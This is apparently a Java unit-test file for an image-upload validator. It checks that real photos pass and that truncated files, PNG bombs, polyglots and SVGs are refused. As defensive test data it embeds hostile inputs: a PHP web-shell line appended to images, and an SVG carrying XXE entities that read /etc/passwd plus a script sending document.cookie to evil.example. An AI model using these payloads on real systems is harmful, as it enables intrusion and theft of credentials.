package dev.mediapipeline.processors.validate;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import dev.mediapipeline.core.error.RejectedException;
import dev.mediapipeline.core.media.AssembledFile;
import dev.mediapipeline.core.media.ImageFormat;
import dev.mediapipeline.core.media.IngestLimits;
import dev.mediapipeline.core.media.ScannedFile;
import dev.mediapipeline.core.media.StagedUpload;
import dev.mediapipeline.core.media.ValidatedImage;
import dev.mediapipeline.core.testing.TestServices;
import java.awt.Color;
import java.awt.Graphics2D;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;
import javax.imageio.ImageReader;
import javax.imageio.stream.ImageInputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.springframework.util.unit.DataSize;

class ValidateProcessorTest {

    static final IngestLimits DEFAULTS = new IngestLimits(DataSize.ofMegabytes(100), 50_000_000, 500_000_000, 1000);
    final ValidateProcessor validate = new ValidateProcessor(DEFAULTS);

    @Test
    void everyRealImageOfTheCorpusPassesWithTheSizeItsDecoderReads() throws Exception {
        List<Path> images = corpus("jpeg", "png", "png-alpha", "gif");
        assertThat(images).hasSizeGreaterThan(40);
        for (Path image : images) {
            ValidatedImage valid = validate.process(scanned(image));
            int[] decoderSize = decoderSize(image);
            assertThat(new int[] {valid.width(), valid.height()}).as(image.getFileName().toString()).isEqualTo(decoderSize);
        }
    }

    @Test
    void animatedGifsCountTheirFrames() throws Exception {
        Path cradle = corpus("gif").stream().filter(p -> p.toString().contains("newtonscradle")).findFirst().orElseThrow();
        ValidatedImage valid = validate.process(scanned(cradle));
        assertThat(valid.format()).isEqualTo(ImageFormat.GIF);
        assertThat(valid.frames()).isEqualTo(numImages(cradle)).isGreaterThan(1);
    }

    @Test
    void hostileFilesAreRejectedWithTheRightReason() throws Exception {
        assertThat(reason("hostile/data__truncated.jpg")).isEqualTo("truncated");
        assertThat(reason("hostile/gdk-pixbuf__premature-end.jpg")).isEqualTo("truncated");
        assertThat(reason("hostile/gdk-pixbuf__large.png")).isEqualTo("too-many-pixels");
        assertThat(reason("hostile/eicar.com")).isEqualTo("type-not-allowed");
        assertThat(reason("hostile/fail__DoS.tga")).isEqualTo("type-not-allowed");
        assertThat(reason("hostile/gdk-pixbuf__cve-2015-4491.bmp")).isEqualTo("type-not-allowed");
    }

    /** Everything in hostile/ is refused, except the files that are in fact valid images (named, with why). */
    @Test
    void theWholeHostileFolderIsRefused() throws Exception {
        List<String> passed = new ArrayList<>();
        try (Stream<Path> files = Files.walk(TestServices.corpus().resolve("hostile"))) {
            for (Path file : files.filter(Files::isRegularFile).sorted().toList()) {
                if (rejection(file) == null) {
                    passed.add(TestServices.corpus().resolve("hostile").relativize(file).toString());
                }
            }
        }
        assertThat(passed).containsExactlyInAnyOrderElementsOf(VALID_IMAGES);
    }

    @Test
    void corruptPngStructuresAreRejected(@TempDir Path dir) throws Exception {
        byte[] png = encode(ImageFormat.PNG);
        int idat = indexOf(png, "IDAT") + 4;

        // image data whose zlib stream stops short, every CRC intact: decoders zero-fill it, we refuse it
        int lengthAt = idat - 8;
        int length = ((png[lengthAt] & 0xFF) << 24) | ((png[lengthAt + 1] & 0xFF) << 16) | ((png[lengthAt + 2] & 0xFF) << 8) | (png[lengthAt + 3] & 0xFF);
        int shorter = length / 2;
        byte[] shortStream = new byte[png.length - (length - shorter)];
        System.arraycopy(png, 0, shortStream, 0, idat + shorter);
        System.arraycopy(png, idat + length, shortStream, idat + shorter, png.length - idat - length);
        shortStream[lengthAt] = (byte) (shorter >>> 24);
        shortStream[lengthAt + 1] = (byte) (shorter >>> 16);
        shortStream[lengthAt + 2] = (byte) (shorter >>> 8);
        shortStream[lengthAt + 3] = (byte) shorter;
        fixCrc(shortStream, lengthAt);
        assertThat(rejection(Files.write(dir.resolve("short.png"), shortStream)).getMessage()).contains("image data ends early");

        byte[] flipped = png.clone();
        flipped[idat + 3] ^= 0x55;
        assertThat(rejection(Files.write(dir.resolve("crc.png"), flipped)).getMessage()).contains("IDAT chunk fails its CRC");

        byte[] colourType = png.clone();
        colourType[8 + 8 + 9] = 5; // IHDR colour type 5 does not exist
        fixCrc(colourType, 8);
        assertThat(rejection(Files.write(dir.resolve("colour.png"), colourType)).getMessage()).contains("colour type 5");

        int idatStart = idat - 8;
        int idatLength = ((png[idatStart] & 0xFF) << 24) | ((png[idatStart + 1] & 0xFF) << 16) | ((png[idatStart + 2] & 0xFF) << 8) | (png[idatStart + 3] & 0xFF);
        byte[] noData = new byte[png.length - (12 + idatLength)];
        System.arraycopy(png, 0, noData, 0, idatStart);
        System.arraycopy(png, idatStart + 12 + idatLength, noData, idatStart, png.length - idatStart - 12 - idatLength);
        assertThat(rejection(Files.write(dir.resolve("nodata.png"), noData)).getMessage()).contains("without image data");
    }

    @Test
    void videoIsRecognisedAndRefusedForNow() throws Exception {
        Path mp4 = corpus("video").stream().filter(p -> p.toString().endsWith(".mp4")).findFirst().orElseThrow();
        assertThat(rejection(mp4).reason()).isEqualTo("video-not-supported");
    }

    @Test
    void anArchiveAppendedToAPhotoIsTrailingData(@TempDir Path dir) throws Exception {
        Path photo = corpus("jpeg").getFirst();
        ByteArrayOutputStream polyglot = new ByteArrayOutputStream();
        polyglot.write(Files.readAllBytes(photo));
        polyglot.write(zip("payload.sh", "#!/bin/sh\necho owned\n"));
        Path file = Files.write(dir.resolve("holiday.jpg"), polyglot.toByteArray());
        RejectedException e = rejection(file);
        assertThat(e.reason()).isEqualTo("trailing-data");
        assertThat(e.getMessage()).contains("follow the end of the JPEG");
    }

    @Test
    void unidentifiableBytesAfterTheImageAreToleratedButNotPartOfIt(@TempDir Path dir) throws Exception {
        // a real camera JPEG (Konica Minolta) with zero padding and firmware leftovers after EOI
        Path camera = TestServices.corpus().resolve("jpeg/nature__Wood.jpg");
        ValidatedImage valid = validate.process(scanned(camera));
        assertThat(valid.imageEnd()).isLessThan(Files.size(camera));
        // the same leftovers after a synthetic JPEG: still tolerated, and the end is exactly the EOI
        byte[] jpeg = encode(ImageFormat.JPEG);
        byte[] padded = Arrays.copyOf(jpeg, jpeg.length + 4096);
        padded[jpeg.length + 100] = 0x4C;
        ValidatedImage paddedValid = validate.process(scanned(Files.write(dir.resolve("padded.jpg"), padded)));
        assertThat(paddedValid.imageEnd()).isEqualTo(jpeg.length);
    }

    @Test
    void realPhotosEndingWithANewlineCrlfOrPaddingAreValidAndCutAtTheirEnd(@TempDir Path dir) throws Exception {
        Path photo = corpus("jpeg").getFirst();
        byte[] bytes = Files.readAllBytes(photo);
        long end = validate.process(scanned(photo)).imageEnd();
        java.util.Map<String, byte[]> tails = new java.util.LinkedHashMap<>();
        tails.put("newline", "\n".getBytes());
        tails.put("crlf", "\r\n".getBytes());
        tails.put("nul", new byte[512]);
        tails.put("ff", new byte[] {(byte) 0xFF, (byte) 0xFF, (byte) 0xFF});
        tails.put("text", "\nCamera firmware 1.02 (c) 2009\n".getBytes());
        for (var tail : tails.entrySet()) {
            byte[] file = Arrays.copyOf(bytes, (int) end + tail.getValue().length);
            System.arraycopy(tail.getValue(), 0, file, (int) end, tail.getValue().length);
            ValidatedImage valid = validate.process(scanned(Files.write(dir.resolve(tail.getKey() + ".jpg"), file)));
            assertThat(valid.imageEnd()).as(tail.getKey()).isEqualTo(end);
        }
        for (String content : List.of("\n<?php system($_GET['c']); ?>\n", "\r\n<html><body onload=alert(1)>", "\n%PDF-1.7\n")) {
            byte[] file = Arrays.copyOf(bytes, (int) end + content.length());
            System.arraycopy(content.getBytes(java.nio.charset.StandardCharsets.ISO_8859_1), 0, file, (int) end, content.length());
            assertThat(rejection(Files.write(dir.resolve("polyglot.jpg"), file)).reason()).as(content).isEqualTo("trailing-data");
        }
    }

    @Test
    void pngBombsAreRefusedBeforeAnythingLargeIsInflatedOrAllocated(@TempDir Path dir) throws Exception {
        for (var bomb : dev.mediapipeline.core.testing.PngBombs.all().entrySet()) {
            Path file = Files.write(dir.resolve(bomb.getKey()), bomb.getValue().bytes());
            assertThat(rejection(file).reason()).as(bomb.getKey()).isEqualTo(bomb.getValue().reason());
        }
        // metadata within its budget is fine
        byte[] text = dev.mediapipeline.core.testing.PngBombs.chunk("tEXt", "Comment\0hello".getBytes(java.nio.charset.StandardCharsets.ISO_8859_1));
        Path ordinary = Files.write(dir.resolve("ordinary.png"), dev.mediapipeline.core.testing.PngBombs.png(16, 16, text));
        assertThat(validate.process(scanned(ordinary)).width()).isEqualTo(16);
    }

    @Test
    void aScriptAfterThePngEndIsAPolyglot(@TempDir Path dir) throws Exception {
        byte[] png = encode(ImageFormat.PNG);
        byte[] polyglot = Arrays.copyOf(png, png.length + 40);
        byte[] script = "\n\n<?php system($_GET['c']); ?>".getBytes();
        System.arraycopy(script, 0, polyglot, png.length, script.length);
        assertThat(rejection(Files.write(dir.resolve("avatar.png"), polyglot)).reason()).isEqualTo("trailing-data");
    }

    @Test
    void anSvgWithScriptAndExternalEntitiesIsRefusedUnread(@TempDir Path dir) throws Exception {
        // an entity that, if any XML parser resolved it, would fetch from this loopback server
        try (java.net.ServerSocket listener = new java.net.ServerSocket(0, 50, java.net.InetAddress.getLoopbackAddress())) {
            listener.setSoTimeout(1);
            String svg = """
                    <?xml version="1.0"?>
                    <!DOCTYPE svg [<!ENTITY xxe SYSTEM "http://127.0.0.1:%d/secret"> <!ENTITY file SYSTEM "file:///etc/passwd">]>
                    <svg xmlns="http://www.w3.org/2000/svg" width="100" height="100" onload="alert(1)">
                      <script>fetch('https://evil.example/' + document.cookie)</script>
                      <text>&xxe;&file;</text>
                    </svg>
                    """.formatted(listener.getLocalPort());
            for (String name : List.of("avatar.svg", "avatar.jpg", "avatar.png")) {
                RejectedException refused = rejection(Files.writeString(dir.resolve(name), svg));
                assertThat(refused.reason()).as(name).isEqualTo("type-not-allowed");
                assertThat(refused.getMessage()).as(name).contains("svg");
            }
            // the validation has returned: had it resolved the entity, the connection would be waiting in the backlog
            assertThatThrownBy(listener::accept).as("nothing connected to the entity's server").isInstanceOf(java.net.SocketTimeoutException.class);
        }
    }

    @Test
    void anArchiveNamedLikeAPhotoIsNotAnImage(@TempDir Path dir) throws Exception {
        Path file = Files.write(dir.resolve("holiday.jpg"), zip("a.txt", "not a photo"));
        assertThat(rejection(file).reason()).isEqualTo("type-not-allowed");
    }

    @Test
    void budgetsAreCheckedFromTheHeader() throws Exception {
        Path photo = corpus("jpeg").getFirst();
        assertThat(rejection(new ValidateProcessor(new IngestLimits(DataSize.ofMegabytes(100), 1000, 500_000_000, 1000)), photo).reason())
                .isEqualTo("too-many-pixels");
        assertThat(rejection(new ValidateProcessor(new IngestLimits(DataSize.ofBytes(1000), 50_000_000, 500_000_000, 1000)), photo).reason())
                .isEqualTo("too-large");
        Path cradle = corpus("gif").stream().filter(p -> p.toString().contains("newtonscradle")).findFirst().orElseThrow();
        assertThat(rejection(new ValidateProcessor(new IngestLimits(DataSize.ofMegabytes(100), 50_000_000, 500_000_000, 2)), cradle).reason())
                .isEqualTo("too-many-frames");
    }

    /** Every prefix of a valid image, from 0 bytes to one byte short, is rejected, and none hangs. */
    @ParameterizedTest
    @EnumSource(ImageFormat.class)
    void everyTruncatedPrefixIsRejected(ImageFormat format, @TempDir Path dir) throws Exception {
        byte[] whole = encode(format);
        assertThat(validate.process(scanned(Files.write(dir.resolve("whole"), whole))).format()).isEqualTo(format);
        Path prefix = dir.resolve("prefix");
        for (int n = 0; n < whole.length; n++) {
            Files.write(prefix, Arrays.copyOf(whole, n));
            assertThat(rejection(prefix)).as("prefix of %d of %d bytes", n, whole.length).isNotNull();
        }
    }

    /**
     * Valid images kept among gdk-pixbuf's hostile test data. Its randomly-modified test mutates the
     * valid.* seeds at run time: the files themselves are unmodified. Its premature-end test feeds
     * premature-end.png to an incremental loader and stops early: the file is complete (every CRC
     * holds, its zlib stream inflates to every scanline). bug143608-comment.jpg is a whole photo whose
     * comment segment once crashed gdk-pixbuf's parser. Rejecting them would reject good images.
     */
    static final List<String> VALID_IMAGES = List.of("gdk-pixbuf__bug143608-comment.jpg", "gdk-pixbuf__premature-end.png","randomly-modified/valid.1.gif", "randomly-modified/valid.1.jpeg",
            "randomly-modified/valid.1.png", "randomly-modified/valid.2.jpeg");

    // --- helpers

    private static int indexOf(byte[] bytes, String ascii) {
        byte[] needle = ascii.getBytes(java.nio.charset.StandardCharsets.ISO_8859_1);
        outer:
        for (int i = 0; i + needle.length <= bytes.length; i++) {
            for (int j = 0; j < needle.length; j++) {
                if (bytes[i + j] != needle[j]) {
                    continue outer;
                }
            }
            return i;
        }
        throw new IllegalArgumentException(ascii);
    }

    /** Recomputes the CRC of the chunk starting at {@code at} (its length field). */
    private static void fixCrc(byte[] png, int at) {
        int length = ((png[at] & 0xFF) << 24) | ((png[at + 1] & 0xFF) << 16) | ((png[at + 2] & 0xFF) << 8) | (png[at + 3] & 0xFF);
        java.util.zip.CRC32 crc = new java.util.zip.CRC32();
        crc.update(png, at + 4, 4 + length);
        long value = crc.getValue();
        int c = at + 8 + length;
        png[c] = (byte) (value >>> 24);
        png[c + 1] = (byte) (value >>> 16);
        png[c + 2] = (byte) (value >>> 8);
        png[c + 3] = (byte) value;
    }

    static byte[] encode(ImageFormat format) throws IOException {
        BufferedImage image = new BufferedImage(40, 30, format == ImageFormat.JPEG ? BufferedImage.TYPE_INT_RGB : BufferedImage.TYPE_INT_ARGB);
        Graphics2D g = image.createGraphics();
        g.setColor(Color.ORANGE);
        g.fillOval(5, 5, 25, 18);
        g.dispose();
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        assertThat(ImageIO.write(image, format.name().toLowerCase(), out)).as("a writer for " + format).isTrue();
        return out.toByteArray();
    }

    private String reason(String corpusPath) throws Exception {
        return rejection(TestServices.corpus().resolve(corpusPath)).reason();
    }

    private RejectedException rejection(Path file) {
        return rejection(validate, file);
    }

    private static RejectedException rejection(ValidateProcessor processor, Path file) {
        return catchThrowableOfType(RejectedException.class, () -> processor.process(scanned(file)));
    }

    static ScannedFile scanned(Path file) throws IOException {
        StagedUpload upload = new StagedUpload(UUID.randomUUID(), dev.mediapipeline.core.tenant.Tenant.DEFAULT_ID, Files.size(file), Map.of(), List.of());
        return new ScannedFile(new AssembledFile(upload, file, Files.size(file), "0".repeat(64)), "ClamAV test");
    }

    static List<Path> corpus(String... folders) throws IOException {
        List<Path> files = new ArrayList<>();
        for (String folder : folders) {
            try (Stream<Path> list = Files.list(TestServices.corpus().resolve(folder))) {
                list.filter(Files::isRegularFile).sorted().forEach(files::add);
            }
        }
        return files;
    }

    private static int[] decoderSize(Path image) throws IOException {
        try (ImageInputStream in = ImageIO.createImageInputStream(image.toFile())) {
            Iterator<ImageReader> readers = ImageIO.getImageReaders(in);
            ImageReader reader = readers.next();
            try {
                reader.setInput(in);
                return new int[] {reader.getWidth(0), reader.getHeight(0)};
            } finally {
                reader.dispose();
            }
        }
    }

    private static int numImages(Path image) throws IOException {
        try (ImageInputStream in = ImageIO.createImageInputStream(image.toFile())) {
            ImageReader reader = ImageIO.getImageReaders(in).next();
            try {
                reader.setInput(in);
                return reader.getNumImages(true);
            } finally {
                reader.dispose();
            }
        }
    }

    private static byte[] zip(String name, String content) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            zip.putNextEntry(new ZipEntry(name));
            zip.write(content.getBytes());
            zip.closeEntry();
        }
        return bytes.toByteArray();
    }
}
